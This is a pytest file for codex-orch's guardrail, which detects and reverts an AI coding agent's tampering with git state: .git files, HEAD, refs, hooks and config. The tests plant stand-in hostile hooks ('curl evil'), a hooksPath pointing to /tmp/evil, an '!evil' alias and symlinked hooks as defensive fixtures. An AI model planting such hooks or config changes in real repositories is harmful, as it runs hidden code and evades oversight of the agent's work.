"""The guardrail (git/guard.py) driven in-process, as the engine drives it: a `Guard` started when the run
starts (engine/run_guard.py), a worktree opened through `Workspaces` (which tells the guard to watch it),
and `check(worktree, quarantine_ref(...), attempt folder)` after an attempt (engine/guardrails.py).

Each test makes one hostile change the way an agent would (real git in a real worktree, or the files git
keeps) and asserts the whole outcome: every field of every `Change`, what was put back, what was kept
aside, and that a second check finds nothing more. The CLI tests check the same guarantees through
codex-orch child processes, which mutation testing cannot see (docs/testing.md, "What mutmut sees")."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import Repo, git

from codex_orch.engine.guardrails import quarantine_ref
from codex_orch.git.guard import Change, Guard
from codex_orch.git.ref_scan import MAX_WATCHED_FILE
from codex_orch.git.repo import Git
from codex_orch.git.workspace import Workspaces

RUN = "r1"
BRANCH = "orch/r1/T1"  # a task branch as the default template names it, under the run prefix "orch/"
REF = f"refs/heads/{BRANCH}"
Q = quarantine_ref(RUN, "T1", 1)  # refs/orch/r1/quarantine/T1/1
HOOK = "pre-commit.sample"


@dataclass
class World:
    """A repository (main: README.md; a branch `side`: side.txt besides), a guard started on it, and
    task T1's worktree on BRANCH, where codex-orch committed task.txt."""

    repo: Repo
    git: Git
    guard: Guard
    workspaces: Workspaces
    tree: Path
    admin: Path
    folder: Path  # the attempt's folder: the agent's versions of files are kept under it
    main: str
    side: str
    tip: str  # BRANCH's commit, codex-orch's own

    @property
    def common(self) -> Path:
        return self.repo.path / ".git"

    def check(self, worktree: Path | None = None) -> list[Change]:
        return self.guard.check(self.tree if worktree is None else worktree, Q, self.folder)

    def rev(self, ref: str) -> str | None:
        out = self.repo.git("rev-parse", "--verify", "--quiet", ref, check=False)
        return out or None

    def head(self) -> str:
        return (self.admin / "HEAD").read_text()


def make_world(repo: Repo, tmp_path: Path, all_refs: bool = True) -> World:
    hooks = repo.path / ".git" / "hooks"
    for sample in [] if hooks.is_symlink() else hooks.iterdir():  # one hook left: short lists of changes
        if sample.name != HOOK and not sample.is_symlink():
            sample.unlink()
    main = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "-b", "side")
    repo.write("side.txt", "side\n")
    repo.git("add", "side.txt")
    repo.git("commit", "-q", "-m", "side")
    side = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "main")
    g = Git(repo.path)
    guard = Guard(g, RUN, all_refs=all_refs, run_branch_prefixes=("orch/",))  # as engine/drive.py makes it
    guard.start()  # engine/run_guard.py, when the run starts
    workspaces = Workspaces(g, Workspaces.identity_for(g), guard)
    ws = workspaces.ensure(tmp_path / "worktrees" / "T1", BRANCH, main)
    (ws.worktree / "task.txt").write_text("codex-orch's\n")
    outcome = workspaces.commit(ws.worktree, "T1: task\n", None, None)
    assert outcome.commit is not None
    world = World(repo, g, guard, workspaces, ws.worktree, ws.admin, tmp_path / "attempt-1", main, side, outcome.commit)
    assert world.check() == []  # codex-orch's own changes are not the agent's
    return world


@pytest.fixture
def w(repo: Repo, tmp_path: Path) -> World:
    return make_world(repo, tmp_path)


def files(tree: Path) -> dict[str, str]:
    """The worktree's files (not .git) and what they hold."""
    return {
        str(p.relative_to(tree)): p.read_text()
        for p in sorted(tree.rglob("*"))
        if p.is_file() and p.relative_to(tree).parts[0] != ".git"
    }


def status(tree: Path) -> set[str]:
    """`git status --porcelain`, its lines whole (conftest's `git` strips the first one's leading space)."""
    out = subprocess.run(["git", "status", "--porcelain", "-uall"], cwd=tree, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    return set(out.stdout.splitlines())


def quarantined(w: World) -> dict[str, str]:
    out = w.repo.git("for-each-ref", "--format=%(refname) %(objectname)", "refs/orch/")
    return {ref: sha for ref, _, sha in (line.partition(" ") for line in out.splitlines())}


def agent_commit(tree: Path, rel: str, text: str) -> str:
    (tree / rel).write_text(text)
    git(tree, "add", rel)
    git(tree, "commit", "-q", "-m", f"agent: {rel}")
    return git(tree, "rev-parse", "HEAD")


T1_FILES = {"README.md": "# test repo\n", "task.txt": "codex-orch's\n"}


# --- the worktree's .git file -----------------------------------------------------------------------
@pytest.mark.parametrize("how", ["deleted", "rewritten", "rewritten, larger than a watched file", "a folder", "a link"])
def test_a_worktrees_dotgit_changed_is_put_back_and_the_agents_version_kept(w: World, how: str) -> None:
    dotgit = w.tree / ".git"
    expected = f"gitdir: {w.admin}\n".encode()
    assert dotgit.read_bytes() == expected
    kept = w.folder / "guardrail" / "dotgit"
    found = how.split(",", maxsplit=1)[0]
    dotgit.unlink()
    if how == "rewritten":
        dotgit.write_bytes(b"gitdir: /elsewhere\n")
    elif how.startswith("rewritten, larger"):
        dotgit.write_bytes(b"g" * (MAX_WATCHED_FILE + 10))
    elif how == "a folder":
        dotgit.mkdir()
        (dotgit / "HEAD").write_text("ref: refs/heads/main\n")
    elif how == "a link":
        dotgit.symlink_to(w.common)
        found = f"a link to {w.common}"

    changes = w.check()

    nothing_kept = how in ("deleted", "a link")  # a link's target is said in the change itself
    assert changes == [Change("dotgit", str(w.tree), "gitdir", found, None if nothing_kept else str(kept))]
    assert changes[0].describe() == (
        f"changed the worktree's .git ({found}); codex-orch never reads it; put back"
        + ("" if nothing_kept else f", its version kept at {kept}")
    )
    assert not dotgit.is_symlink() and dotgit.read_bytes() == expected
    if how == "deleted":
        assert not (w.folder / "guardrail").exists()
    elif how == "rewritten":
        assert kept.read_bytes() == b"gitdir: /elsewhere\n"
    elif how.startswith("rewritten, larger"):
        assert kept.read_bytes() == b"g" * MAX_WATCHED_FILE  # a watched file's size at most
    elif how == "a folder":
        assert [p.name for p in kept.iterdir()] == ["HEAD"]
        assert (kept / "HEAD").read_text() == "ref: refs/heads/main\n"
    else:  # a link: where it pointed is in the change; nothing is written at `kept`
        assert not os.path.lexists(kept) and kept.parent.is_dir()
    assert git(w.tree, "symbolic-ref", "HEAD") == REF  # the agent's git finds its worktree again
    assert w.check() == []


@pytest.mark.parametrize("how", ["removed", "replaced by a link to a folder"])
def test_a_worktree_that_is_gone_has_nothing_put_back(w: World, tmp_path: Path, how: str) -> None:
    """A worktree removed is nothing to put back; one made a link is a change (a commit there would take
    the link target's files: session 8), and nothing is written through the link."""
    shutil.rmtree(w.tree)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    if how != "removed":
        w.tree.symlink_to(elsewhere)

    linked = [Change("worktree", str(w.tree), "its folder", f"a link to {elsewhere}")]
    changes = w.check()
    assert changes == ([] if how == "removed" else linked)
    if changes:
        assert changes[0].describe() == (
            f"replaced the worktree {w.tree} by a link to {elsewhere}: the link was removed and the worktree made "
            "again from its branch (what it held uncommitted is gone)"
        )

    assert os.listdir(elsewhere) == []  # no .git written through the link
    assert w.tree.is_symlink() == (how != "removed") and os.path.lexists(w.tree) == (how != "removed")
    assert w.head() == f"ref: {REF}\n" and w.rev(REF) == w.tip
    assert not w.folder.exists()
    assert w.check() == ([] if how == "removed" else linked)  # reported at every check while it is a link


def test_only_the_checked_worktrees_dotgit_is_compared(w: World, tmp_path: Path) -> None:
    """Each worktree's .git is compared at its own attempts' ends, and only while it is watched."""
    other = w.workspaces.ensure(tmp_path / "worktrees" / "T2", "orch/r1/T2", w.main)
    (other.worktree / ".git").unlink()

    assert w.check() == []
    assert not (other.worktree / ".git").exists()

    assert w.check(other.worktree) == [Change("dotgit", str(other.worktree), "gitdir", "deleted", None)]
    assert (other.worktree / ".git").read_text() == f"gitdir: {other.admin}\n"
    w.guard.unwatch(other.worktree)
    (other.worktree / ".git").unlink()
    assert w.check(other.worktree) == []  # no longer watched: codex-orch removes it


# --- the worktree's HEAD ------------------------------------------------------------------------------
def test_head_detached_on_its_own_commit_is_put_back_the_files_as_they_are(w: World) -> None:
    git(w.tree, "checkout", "-q", "--detach")
    (w.tree / "README.md").write_text("agent's edit\n")

    changes = w.check()

    assert changes == [Change("head", str(w.tree), BRANCH, w.tip)]
    assert changes[0].describe() == f"pointed the worktree's HEAD at {w.tip} (it must stay on {BRANCH}); put back"
    assert w.head() == f"ref: {REF}\n" and w.rev(REF) == w.tip
    assert files(w.tree) == {**T1_FILES, "README.md": "agent's edit\n"}
    assert status(w.tree) == {" M README.md"}
    assert quarantined(w) == {}
    assert w.check() == []


@pytest.mark.parametrize("how", ["checkout --detach main", "checkout side"])
def test_head_moved_off_its_branch_is_put_back_and_the_files_realigned(w: World, how: str) -> None:
    """The files come back to the branch's commit by git's two-tree merge: the agent's later edit of a
    file both commits hold the same stays."""
    git(w.tree, *how.split(), "-q")
    assert "task.txt" not in files(w.tree)
    (w.tree / "README.md").write_text("agent's edit\n")

    changes = w.check()

    after = w.main if how.endswith("main") else "refs/heads/side"
    assert changes == [Change("head", str(w.tree), BRANCH, after)]
    assert w.head() == f"ref: {REF}\n" and w.rev(REF) == w.tip
    assert w.rev("refs/heads/side") == w.side and w.rev("refs/heads/main") == w.main
    assert files(w.tree) == {**T1_FILES, "README.md": "agent's edit\n"}
    assert status(w.tree) == {" M README.md"}
    assert quarantined(w) == {}
    assert w.check() == []


def test_files_that_cannot_be_merged_back_stay_as_uncommitted_changes(w: World) -> None:
    """`read-tree -m -u` refuses to drop side.txt, which the agent edited: the files stay where the
    agent left them and the index follows the branch, so the difference shows in the status."""
    git(w.tree, "checkout", "-q", "side")
    (w.tree / "side.txt").write_text("agent's edit\n")

    changes = w.check()

    assert changes == [Change("head", str(w.tree), BRANCH, "refs/heads/side")]
    assert w.head() == f"ref: {REF}\n" and w.rev(REF) == w.tip and w.rev("refs/heads/side") == w.side
    assert files(w.tree) == {"README.md": "# test repo\n", "side.txt": "agent's edit\n"}
    assert status(w.tree) == {" D task.txt", "?? side.txt"}
    assert git(w.tree, "rev-parse", "HEAD") == w.tip
    assert git(w.tree, "diff", "--cached", "--name-only") == ""  # the index is the branch's
    assert w.check() == []


def test_head_pointed_at_a_branch_that_does_not_exist_is_put_back_the_files_left(w: World) -> None:
    git(w.tree, "symbolic-ref", "HEAD", "refs/heads/nowhere")

    changes = w.check()

    assert changes == [Change("head", str(w.tree), BRANCH, "refs/heads/nowhere")]
    assert w.head() == f"ref: {REF}\n" and w.rev(REF) == w.tip and w.rev("refs/heads/nowhere") is None
    assert files(w.tree) == T1_FILES and status(w.tree) == set()
    assert w.check() == []


# a bug this file found (session 8, fixed in git/guard.py and safe_fs.py): a HEAD deleted or made a folder made the
# check raise (git no longer took the admin folder for a repository)
@pytest.mark.parametrize("how", ["deleted", "a folder", "bytes that are not UTF-8"])
def test_head_deleted_is_put_back(w: World, how: str) -> None:
    head = w.admin / "HEAD"
    head.unlink()
    if how == "a folder":
        head.mkdir()
    elif how.startswith("bytes"):
        head.write_bytes(b"\xff\xfe junk")

    changes = w.check()

    assert changes == [
        Change("head", str(w.tree), BRANCH, "\ufffd\ufffd junk" if how.startswith("bytes") else "nothing")
    ]
    assert w.head() == f"ref: {REF}\n"
    assert w.check() == []


# --- the agent's commits ---------------------------------------------------------------------------
def test_commits_on_its_own_branch_are_folded_into_the_worktree(w: World) -> None:
    agent_commit(w.tree, "new.txt", "agent's\n")
    last = agent_commit(w.tree, "task.txt", "agent's too\n")

    changes = w.check()

    assert changes == [Change("ref", REF, w.tip, last, None, folded=True)]
    assert changes[0].describe() == (
        f"committed on its own branch {REF} (the commits were folded into codex-orch's commit)"
    )
    assert w.rev(REF) == w.tip and w.head() == f"ref: {REF}\n"  # reset --mixed: the branch back,
    assert files(w.tree) == {**T1_FILES, "new.txt": "agent's\n", "task.txt": "agent's too\n"}  # the files kept
    assert status(w.tree) == {" M task.txt", "?? new.txt"}
    assert quarantined(w) == {}
    assert w.check() == []


def test_commits_on_its_own_branch_then_head_moved_are_put_back_not_folded(w: World) -> None:
    last = agent_commit(w.tree, "new.txt", "agent's\n")
    git(w.tree, "checkout", "-q", "side")

    changes = w.check()

    kept = f"{Q}/heads/{BRANCH}"
    assert changes == [
        Change("head", str(w.tree), BRANCH, "refs/heads/side"),
        Change("ref", REF, w.tip, last, kept),
    ]
    assert w.rev(REF) == w.tip and w.head() == f"ref: {REF}\n" and w.rev(kept) == last
    assert quarantined(w) == {kept: last}
    assert files(w.tree) == T1_FILES and status(w.tree) == set()  # from side's files to the branch's
    assert w.check() == []


def test_its_own_branch_moved_back_is_put_back_and_the_files_realigned(w: World) -> None:
    git(w.tree, "reset", "-q", "--hard", "HEAD~1")
    assert "task.txt" not in files(w.tree)

    changes = w.check()

    kept = f"{Q}/heads/{BRANCH}"
    assert changes == [Change("ref", REF, w.tip, w.main, kept)]
    assert changes[0].describe() == (
        f"moved {REF} from {w.tip[:12]} to {w.main[:12]}; put back, its version kept at {kept}"
    )
    assert w.rev(REF) == w.tip and w.rev(kept) == w.main and w.head() == f"ref: {REF}\n"
    assert files(w.tree) == T1_FILES and status(w.tree) == set()
    assert w.check() == []


def test_a_commit_on_another_branch_is_put_back_and_kept(w: World) -> None:
    git(w.tree, "checkout", "-q", "side")
    last = agent_commit(w.tree, "side.txt", "agent's\n")

    changes = w.check()

    kept = f"{Q}/heads/side"
    assert changes == [
        Change("head", str(w.tree), BRANCH, "refs/heads/side"),
        Change("ref", "refs/heads/side", w.side, last, kept),
    ]
    assert w.rev("refs/heads/side") == w.side and w.rev(kept) == last
    assert w.rev(REF) == w.tip and w.head() == f"ref: {REF}\n"
    assert quarantined(w) == {kept: last}
    assert files(w.tree) == T1_FILES and status(w.tree) == set()
    assert w.check() == []


# --- refs ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("how", ["branch created", "tag created", "branch moved", "branch deleted", "main moved"])
def test_a_ref_changed_is_put_back_and_the_agents_version_kept(w: World, how: str) -> None:
    ref, before, after = {
        "branch created": ("refs/heads/feature", None, w.tip),
        "tag created": ("refs/tags/v1", None, w.tip),
        "branch moved": ("refs/heads/side", w.side, w.tip),
        "branch deleted": ("refs/heads/side", w.side, None),
        "main moved": ("refs/heads/main", w.main, w.side),
    }[how]
    if how == "branch created":
        git(w.tree, "branch", "feature")
    elif how == "tag created":
        git(w.tree, "tag", "v1")
    elif how == "branch deleted":
        git(w.tree, "branch", "-D", "side")
    else:
        git(w.tree, "update-ref", ref, str(after))

    changes = w.check()

    kept = None if after is None else f"{Q}/{ref.removeprefix('refs/')}"
    assert changes == [Change("ref", ref, before, after, kept)]
    what = (
        f"created {ref} at {w.tip[:12]}"
        if before is None
        else f"deleted {ref} (was {before[:12]})"
        if after is None
        else f"moved {ref} from {before[:12]} to {after[:12]}"
    )
    assert changes[0].describe() == what + (f"; put back, its version kept at {kept}" if kept else "; put back")
    assert w.rev(ref) == before
    assert quarantined(w) == ({} if kept is None else {kept: after})
    assert w.rev(REF) == w.tip and w.head() == f"ref: {REF}\n"
    assert files(w.tree) == T1_FILES and status(w.tree) == set()
    assert w.check() == []


def test_the_checks_without_a_worktree_put_refs_back_and_leave_worktrees_alone(w: World) -> None:
    """The checks when a run resumes and at its end (engine/run_guard.py) name no worktree: refs are
    put back, a worktree's HEAD and .git are left to its own attempts' checks."""
    git(w.tree, "branch", "feature")
    agent_commit(w.tree, "new.txt", "agent's\n")
    last = git(w.tree, "rev-parse", "HEAD")
    (w.tree / ".git").unlink()

    changes = w.guard.check(None, f"refs/orch/{RUN}/quarantine/end", w.folder)

    assert changes == [
        Change("ref", "refs/heads/feature", None, w.tip, f"refs/orch/{RUN}/quarantine/end/heads/feature"),
        Change("ref", REF, w.tip, last, f"refs/orch/{RUN}/quarantine/end/heads/{BRANCH}"),  # not folded
    ]
    assert w.rev("refs/heads/feature") is None and w.rev(REF) == w.tip
    assert files(w.tree) == T1_FILES and not (w.tree / ".git").exists()  # realigned, .git left
    assert w.guard.check(None, f"refs/orch/{RUN}/quarantine/end", w.folder) == []


def test_another_worktrees_branch_moved_is_put_back_and_that_worktree_realigned(w: World, tmp_path: Path) -> None:
    other = w.workspaces.ensure(tmp_path / "worktrees" / "T2", "orch/r1/T2", w.side)
    git(w.tree, "update-ref", "refs/heads/orch/r1/T2", w.tip)

    changes = w.check()

    kept = f"{Q}/heads/orch/r1/T2"
    assert changes == [Change("ref", "refs/heads/orch/r1/T2", w.side, w.tip, kept)]
    assert w.rev("refs/heads/orch/r1/T2") == w.side and w.rev(kept) == w.tip
    assert files(other.worktree) == {"README.md": "# test repo\n", "side.txt": "side\n"}
    assert status(other.worktree) == set()
    assert w.check() == [] and w.check(other.worktree) == []


def test_a_removed_worktrees_branch_moved_is_put_back_nothing_written_there(w: World, tmp_path: Path) -> None:
    other = w.workspaces.ensure(tmp_path / "worktrees" / "T2", "orch/r1/T2", w.side)
    shutil.rmtree(other.worktree)
    git(w.tree, "update-ref", "refs/heads/orch/r1/T2", w.tip)

    changes = w.check()

    assert changes == [Change("ref", "refs/heads/orch/r1/T2", w.side, w.tip, f"{Q}/heads/orch/r1/T2")]
    assert w.rev("refs/heads/orch/r1/T2") == w.side
    assert not os.path.lexists(other.worktree)
    assert w.check() == []


@pytest.mark.parametrize("all_refs", [True, False])
def test_which_refs_are_watched(repo: Repo, tmp_path: Path, all_refs: bool) -> None:
    """Remote-tracking refs never; another run's refs and branches never (that run watches them); the
    run's own refs and its worktrees' branches always; any other ref with `guardrails.refs: all`."""
    w = make_world(repo, tmp_path, all_refs=all_refs)
    made = [
        "refs/remotes/origin/main",
        "refs/orch/r2/tasks/T1",
        "refs/heads/orch/r2/T1",
        "refs/orch/r1/stray",
        "refs/heads/feature",
    ]
    for ref in made:
        git(w.tree, "update-ref", ref, w.main)
    git(w.tree, "update-ref", REF, w.side)  # not a descendant: not folded

    changes = w.check()

    expected = [
        Change("ref", REF, w.tip, w.side, f"{Q}/heads/{BRANCH}"),
        Change("ref", "refs/orch/r1/stray", None, w.main, f"{Q}/orch/r1/stray"),
    ]
    if all_refs:
        expected.insert(0, Change("ref", "refs/heads/feature", None, w.main, f"{Q}/heads/feature"))
    assert changes == expected
    gone = {"refs/orch/r1/stray", *(["refs/heads/feature"] if all_refs else [])}
    assert {ref: w.rev(ref) for ref in made} == {ref: None if ref in gone else w.main for ref in made}
    assert w.rev(REF) == w.tip and files(w.tree) == T1_FILES and status(w.tree) == set()
    assert w.check() == []


@pytest.mark.parametrize("all_refs", [True, False])
def test_a_narrowed_guard_watches_its_own_task_only(repo: Repo, tmp_path: Path, all_refs: bool) -> None:
    """A Temporal worker's task (temporal/task_run.py): its own refs are its quarantine and its branch;
    the run's other refs and the other tasks' branches belong to their own guards."""
    g = Git(repo.path)
    base = repo.git("rev-parse", "HEAD")
    wide = Guard(g, RUN, all_refs=all_refs, run_branch_prefixes=("orch/",))
    quarantine = f"refs/orch/{RUN}/quarantine/T1/"
    guard = wide.narrowed((quarantine, "refs/heads/wb/T1"), ("orch-worker/",))
    guard.start()
    folder = tmp_path / "attempt-1"
    made = [
        "refs/orch/r1/tasks/T2",  # the run's, not this task's
        "refs/heads/orch-worker/T2",  # another task's branch, by the prefix given
        "refs/heads/orch/r1/T2",  # by the run's prefix
        f"{quarantine}stray",
        "refs/heads/wb/T1",
        "refs/heads/feature",
    ]
    for ref in made:
        repo.git("update-ref", ref, base)

    changes = guard.check(None, f"{quarantine}1", folder)

    expected = [
        Change("ref", "refs/heads/wb/T1", None, base, f"{quarantine}1/heads/wb/T1"),
        Change("ref", f"{quarantine}stray", None, base, f"{quarantine}1/orch/r1/quarantine/T1/stray"),
    ]
    if all_refs:
        expected.insert(0, Change("ref", "refs/heads/feature", None, base, f"{quarantine}1/heads/feature"))
    assert changes == expected
    gone = {"refs/heads/wb/T1", f"{quarantine}stray", *(["refs/heads/feature"] if all_refs else [])}
    assert {ref: repo.git("rev-parse", "--verify", "-q", ref, check=False) or None for ref in made} == {
        ref: None if ref in gone else base for ref in made
    }
    assert guard.check(None, f"{quarantine}1", folder) == []
    assert wide.own == (f"refs/orch/{RUN}/",)  # the run's guard is not changed


def test_refs_read_through_git_as_a_reftable_repository_has_them(repo: Repo, tmp_path: Path) -> None:
    """A repository that keeps its refs in a reftable is read with `git for-each-ref` (guard._read_refs);
    a config naming refstorage is what makes the guard read them so (git 2.39 here has no reftable)."""
    repo.git("config", "test.refstorage", "files")
    w = make_world(repo, tmp_path)
    assert w.guard._reftable
    git(w.tree, "branch", "feature")
    git(w.tree, "branch", "-D", "side")
    last = agent_commit(w.tree, "new.txt", "agent's\n")

    changes = w.check()

    assert changes == [
        Change("ref", "refs/heads/feature", None, w.tip, f"{Q}/heads/feature"),
        Change("ref", REF, w.tip, last, None, folded=True),
        Change("ref", "refs/heads/side", w.side, None),
    ]
    assert w.rev("refs/heads/feature") is None and w.rev("refs/heads/side") == w.side and w.rev(REF) == w.tip
    assert status(w.tree) == {"?? new.txt"}
    assert w.check() == []


def test_codex_orchs_own_ref_changes_are_what_should_be(w: World) -> None:
    with w.guard.ours("refs/heads/side", "refs/orch/r1/tasks/T1", ""):
        git(w.tree, "branch", "-D", "side")
        git(w.tree, "update-ref", "refs/orch/r1/tasks/T1", w.tip)

    assert w.check() == []
    assert w.rev("refs/heads/side") is None and w.rev("refs/orch/r1/tasks/T1") == w.tip


def test_what_changed_while_the_run_was_stopped_is_found_when_it_resumes(repo: Repo, tmp_path: Path) -> None:
    """engine/run_guard.py: what should be is saved when the run starts (guard.json); a resumed run
    takes it up, except the refs codex-orch moved itself, and checks at once, naming no worktree."""
    w = make_world(repo, tmp_path)
    saved = json.loads(json.dumps(w.guard.to_json()))  # as written to and read from guard.json
    config = w.common / "config"
    text = config.read_bytes()
    # while no codex-orch ran: codex-orch had moved its own refs, then something else changed others
    git(w.tree, "update-ref", "refs/orch/r1/tasks/T1", w.tip)
    git(w.tree, "branch", "feature")
    git(w.tree, "branch", "-D", "side")
    config.write_bytes(text + b"[alias]\n\tx = !evil\n")

    guard = Guard(w.git, RUN, run_branch_prefixes=("orch/",))  # a new process
    guard.resume(saved, lambda ref: ref == REF or ref.startswith(f"refs/orch/{RUN}/"))
    changes = guard.check(None, f"refs/orch/{RUN}/quarantine/resume-1", tmp_path / "resume-1")

    kept = tmp_path / "resume-1" / "guardrail" / "git" / "config"
    assert changes == [
        Change("file", str(config), "", "", str(kept)),
        Change("ref", "refs/heads/feature", None, w.tip, f"refs/orch/{RUN}/quarantine/resume-1/heads/feature"),
        Change("ref", "refs/heads/side", w.side, None),
    ]
    assert config.read_bytes() == text and kept.read_bytes() == text + b"[alias]\n\tx = !evil\n"
    assert w.rev("refs/heads/feature") is None and w.rev("refs/heads/side") == w.side
    assert w.rev(REF) == w.tip and w.rev("refs/orch/r1/tasks/T1") == w.tip
    assert guard.check(None, f"refs/orch/{RUN}/quarantine/resume-1", tmp_path / "resume-1") == []


# --- git's own files -------------------------------------------------------------------------------
def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_a_hook_added_is_removed_and_kept(w: World) -> None:
    hook = w.common / "hooks" / "pre-push"
    hook.write_text("#!/bin/sh\ncurl evil\n")
    hook.chmod(0o755)

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / "pre-push"
    assert changes == [Change("file", str(hook), None, "", str(kept))]
    assert changes[0].describe() == f"added {hook}; put back, its version kept at {kept}"
    assert not os.path.lexists(hook)
    assert kept.read_text() == "#!/bin/sh\ncurl evil\n"  # the bytes, without the mode's mark
    assert w.check() == []


def test_a_large_hook_changed_is_put_back_whole(repo: Repo, tmp_path: Path) -> None:
    """A user's hook of several MiB (a compiled one): changed by the agent, it is put back byte for byte
    (session 9: over 1 MiB it was compared by size and mtime only, and the check deleted it)."""
    hook = repo.path / ".git" / "hooks" / HOOK  # the one hook make_world leaves
    original = b"\x7fELF" + bytes(range(256)) * (5 << 12)  # 5 MiB and 4 bytes
    hook.write_bytes(original)
    hook.chmod(0o755)
    w = make_world(repo, tmp_path)
    hook.write_bytes(b"#!/bin/sh\ncurl evil\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / HOOK
    assert changes == [Change("file", str(hook), "", "", str(kept))]
    assert hook.read_bytes() == original and _mode(hook) == 0o755
    assert kept.read_bytes() == b"#!/bin/sh\ncurl evil\n"
    assert w.check() == []


def test_a_hook_larger_than_the_guard_keeps_is_never_deleted(
    repo: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over the size the guard keeps whole, a changed hook cannot be put back: it is reported at every
    check (each attempt fails as `guardrail`), never deleted, and the agent's version is kept."""
    monkeypatch.setattr("codex_orch.git.ref_scan.MAX_WATCHED_FILE", 1000)
    hook = repo.path / ".git" / "hooks" / HOOK
    hook.write_bytes(b"#" * 2000)
    hook.chmod(0o755)
    w = make_world(repo, tmp_path)
    hook.write_bytes(b"#!/bin/sh\ncurl evil\n" * 100)

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / HOOK
    assert changes == [Change("file", str(hook), "", "", str(kept), left=True)]
    assert changes[0].describe() == (
        f"changed {hook}; not put back: codex-orch keeps no copy of a file over 1000 bytes, so look at it by "
        f"hand (its version is kept at {kept})"
    )
    assert hook.read_bytes() == b"#!/bin/sh\ncurl evil\n" * 100
    assert kept.read_bytes() == b"#!/bin/sh\ncurl evil\n" * 100
    assert w.check() == changes


def test_two_hooks_added_in_one_attempt_are_both_kept(w: World) -> None:
    hooks = [w.common / "hooks" / name for name in ("post-checkout", "pre-push")]
    for hook in hooks:
        hook.write_text(f"#!/bin/sh\n{hook.name}\n")

    changes = w.check()

    kept = [w.folder / "guardrail" / "git" / "hooks" / hook.name for hook in hooks]
    assert changes == [Change("file", str(h), None, "", str(k)) for h, k in zip(hooks, kept, strict=True)]
    assert [k.read_text() for k in kept] == [f"#!/bin/sh\n{h.name}\n" for h in hooks]
    assert not any(os.path.lexists(h) for h in hooks)


def test_a_hook_removed_is_put_back_with_its_mode(w: World) -> None:
    hook = w.common / "hooks" / HOOK
    text, mode = hook.read_bytes(), _mode(hook)
    assert mode & 0o111
    hook.unlink()

    changes = w.check()

    assert changes == [Change("file", str(hook), "", None, None)]
    assert changes[0].describe() == f"removed {hook}; put back"
    assert hook.read_bytes() == text and _mode(hook) == mode
    assert not w.folder.exists()
    assert w.check() == []


@pytest.mark.parametrize("where", ["common", "admin"])
def test_a_config_changed_is_put_back_and_the_agents_version_kept(w: World, where: str) -> None:
    root = w.common if where == "common" else w.admin
    name = "config" if where == "common" else "gitdir"
    rel = name if where == "common" else f"worktrees/{w.admin.name}/{name}"
    path = root / name
    text, mode = path.read_bytes(), _mode(path)
    path.write_bytes(text + b"[core]\n\thooksPath = /tmp/evil\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / rel
    assert changes == [Change("file", str(path), "", "", str(kept))]
    assert changes[0].describe() == f"changed {path}; put back, its version kept at {kept}"
    assert path.read_bytes() == text and _mode(path) == mode
    assert kept.read_bytes() == text + b"[core]\n\thooksPath = /tmp/evil\n"
    assert w.check() == []


@pytest.mark.parametrize(
    "rel", ["objects/info/alternates", "info/grafts", "worktrees/*/config.worktree", "worktrees/*/info/exclude"]
)
def test_a_watched_file_added_is_removed_and_kept(w: World, rel: str) -> None:
    rel = rel.replace("*", w.admin.name)
    path = w.common / rel
    path.parent.mkdir(exist_ok=True)
    path.write_text("/elsewhere\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / rel
    assert changes == [Change("file", str(path), None, "", str(kept))]
    assert not os.path.lexists(path) and kept.read_text() == "/elsewhere\n"
    assert w.check() == []


def test_a_hook_made_a_link_is_put_back_a_file(w: World) -> None:
    hook = w.common / "hooks" / HOOK
    text, mode = hook.read_bytes(), _mode(hook)
    hook.unlink()
    hook.symlink_to("/bin/sh")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / HOOK
    assert changes == [Change("file", str(hook), "", "", str(kept))]
    assert not hook.is_symlink() and hook.read_bytes() == text and _mode(hook) == mode
    assert kept.read_bytes() == b"link:/bin/sh"  # what was compared: the link's target
    assert w.check() == []


def test_the_hooks_folder_made_a_file_is_put_back(w: World) -> None:
    hooks = w.common / "hooks"
    text, mode = (hooks / HOOK).read_bytes(), _mode(hooks / HOOK)
    shutil.rmtree(hooks)
    hooks.write_text("not a folder\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks"
    assert changes == [
        Change("file", str(hooks), None, "", str(kept)),
        Change("file", str(hooks / HOOK), "", None, None),
    ]
    assert hooks.is_dir() and os.listdir(hooks) == [HOOK]
    assert (hooks / HOOK).read_bytes() == text and _mode(hooks / HOOK) == mode
    assert kept.read_text() == "not a folder\n"
    assert w.check() == []


def _linked_hook(repo: Repo, tmp_path: Path) -> tuple[World, Path, Path]:
    """A world whose pre-commit hook is, from the start, a link to a hook the repository tracks."""
    target = repo.write("githooks/pre-commit", "#!/bin/sh\nmake lint\n")
    link = repo.path / ".git" / "hooks" / "pre-commit"
    link.symlink_to("../../githooks/pre-commit")
    return make_world(repo, tmp_path), link, target


@pytest.mark.parametrize("how", ["made a file", "made a folder"])
def test_a_hook_that_was_a_link_is_put_back_a_link(repo: Repo, tmp_path: Path, how: str) -> None:
    w, link, target = _linked_hook(repo, tmp_path)
    link.unlink()
    if how == "made a file":
        link.write_text("evil\n")
    else:
        link.mkdir()
        (link / "inside").write_text("evil\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / "pre-commit"
    if how == "made a file":
        assert changes == [Change("file", str(link), "", "", str(kept))]
        assert kept.read_text() == "evil\n"
    else:  # the folder goes; what was in it is kept (its removal through the link back fails harmlessly)
        assert changes == [
            Change("file", str(link), "", None, None),
            Change("file", str(link / "inside"), None, "", str(kept / "inside")),
        ]
        assert (kept / "inside").read_text() == "evil\n"
    assert os.readlink(link) == "../../githooks/pre-commit"
    assert target.read_text() == "#!/bin/sh\nmake lint\n"
    assert w.check() == []


